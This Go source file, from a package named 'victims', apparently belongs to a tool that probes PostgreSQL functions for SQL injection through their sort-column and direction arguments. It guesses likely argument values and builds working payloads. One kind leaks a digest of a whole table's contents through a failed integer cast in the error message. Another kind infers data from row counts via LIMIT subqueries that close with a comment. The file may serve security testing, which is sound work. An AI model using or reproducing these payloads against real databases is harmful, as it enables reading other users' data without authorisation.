package victims

import (
	"fmt"
	"strings"

	"github.com/atlilith/onboardbot/onboarding/isolation/catalog"
	"github.com/atlilith/onboardbot/onboarding/isolation/query"
)

// usual is how a call most likely gives the argument: its default, for a text what its name says that
// it is of an ordered list, or else what calls give it anyway.
func (a argument) usual() string {
	switch {
	case a.preset != "":
		return a.preset
	case a.isText() && a.nameHas("dir", "asc", "desc"):
		return a.spell(query.Literal("asc"))
	case a.isText() && a.nameHas("sort", "order", "column", "field", "key", "by"):
		if columns := a.columns(); len(columns) > 0 {
			return a.spell(query.Literal(columns[0].Name))
		}
	}
	return a.spell(a.candidates()[0])
}

func (a argument) spell(value string) string { return value + "::" + a.typ }

// columns are one of each table that the function may read, by which its rows can be put in order.
func (a argument) columns() []*catalog.Column {
	var found []*catalog.Column
	for _, t := range a.tables()[:min(injectedTables, len(a.tables()))] {
		key := t.SingleKey()
		if key == nil && len(t.Columns) > 0 {
			key = t.Columns[0]
		}
		if key != nil {
			found = append(found, key)
		}
	}
	return found
}

// afterExpression is SQL for a function that pastes an argument behind or in the place of an expression,
// such as the column that it sorts by and the direction. What is found there tells of itself by an
// error, which says a digest of it, or by how many rows a call answers.
func (a argument) afterExpression() []string {
	var found []string
	for _, t := range a.tables()[:min(injectedTables, len(a.tables()))] {
		// random() keeps it from being constant: since PostgreSQL 16, an aggregate does not evaluate a
		// constant by which it is to order its rows.
		failing := fmt.Sprintf("(SELECT 'x' || md5(string_agg(v::text, '' ORDER BY v::text)) FROM %s v)::int"+
			" + (0 * random())::int", t.SQL())
		ends := []string{", " + failing}
		for _, parts := range []int{2, 3} {
			ends = append(ends, fmt.Sprintf(" LIMIT (SELECT count(*) %% %d FROM %s) --", parts, t.SQL()))
		}
		found = append(found, failing)
		for _, end := range ends {
			found = append(found, "ASC"+end, "1"+end)
		}
		for _, column := range a.columns() {
			for _, end := range ends {
				found = append(found, strings.ReplaceAll(column.Name, `"`, `""`)+`"`+end+" --")
			}
		}
	}
	return found
}
